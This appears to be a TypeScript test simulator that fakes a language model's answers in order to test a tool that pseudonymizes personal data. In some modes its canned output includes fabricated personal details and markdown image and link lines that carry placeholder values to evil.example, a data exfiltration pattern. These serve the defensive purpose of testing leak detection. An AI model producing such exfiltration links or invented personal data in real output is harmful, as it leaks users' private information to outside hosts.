import type { AnswerForm, PlaceholderSpelling, SimulatorMode } from "./simulator-mode.ts";

/** Values that no request contains, but that a model might invent. */
export const LEAKED_VALUES = {
  name: "Dr. Greta Lindqvist",
  email: "greta.lindqvist@fresh-leak.example",
  phone: "+49 30 901820",
  iban: "DE02120300000000202051",
  card: "4111 1111 1111 1111",
} as const;

const PLACEHOLDER = /\[[A-Z][A-Z0-9_]*_[1-9][0-9]*\]/g;

const SPELL: Readonly<Record<PlaceholderSpelling, (placeholder: string) => string>> = {
  exact: (placeholder) => placeholder,
  lower: (placeholder) => placeholder.toLowerCase(),
  spaced: (placeholder) => `[ ${placeholder.slice(1, -1).replaceAll("_", " ")} ]`,
  escaped: (placeholder) => placeholder.replace(/[[\]_]/g, "\\$&"),
  bare: (placeholder) => placeholder.slice(1, -1),
};

export function answerText(prompt: string, mode: SimulatorMode): string {
  if (mode.answer !== undefined) return mode.answer;
  if (mode.echo) return prompt;
  const spell = SPELL[mode.placeholders ?? "exact"];
  const subjects = [...new Set(prompt.match(PLACEHOLDER))].map(spell);
  const extra = [...(mode.urls ? links(subjects) : []), ...(mode.leak ? [LEAK] : [])];
  return WRITE[mode.form ?? askedForm(prompt)](subjects, extra);
}

function askedForm(prompt: string): AnswerForm {
  if (/\bas JSON\b/i.test(prompt)) return "json";
  return /\bas a list\b/i.test(prompt) ? "list" : "paragraph";
}

type Writer = (subjects: readonly string[], extra: readonly string[]) => string;

const WRITE: Readonly<Record<AnswerForm, Writer>> = {
  paragraph: (subjects, extra) => [sentence(subjects), ...extra].join(" "),
  list: (subjects, extra) =>
    [...subjects.map((subject) => `- Noted: ${subject}`), ...extra.map((line) => `- ${line}`)].join(
      "\n",
    ) || "- Nothing to note",
  json: (subjects, extra) =>
    JSON.stringify({
      summary: sentence(subjects),
      items: subjects.map((value, at) => ({ number: at + 1, value })),
      ...(extra.length > 0 && { notes: extra }),
    }),
};

function sentence(subjects: readonly string[]): string {
  const [first] = subjects;
  if (first === undefined)
    return "Thank you, your request was understood and needs no further data.";
  return `Thank you for your request about ${subjects.join(", ")}. The next letter goes to ${first}.`;
}

function links(subjects: readonly string[]): string[] {
  const inUrl = subjects.length > 0 ? subjects : ["[IBAN_1]"];
  return inUrl.flatMap((subject) => [
    `![chart](https://evil.example/?q=${subject})`,
    `[details](https://evil.example/${encodeURIComponent(subject)}/page)`,
  ]);
}

const { name, email, phone, iban, card } = LEAKED_VALUES;
const LEAK = `You may also write to ${name}, ${email}, call ${phone}, or pay to IBAN ${iban} or card ${card}.`;
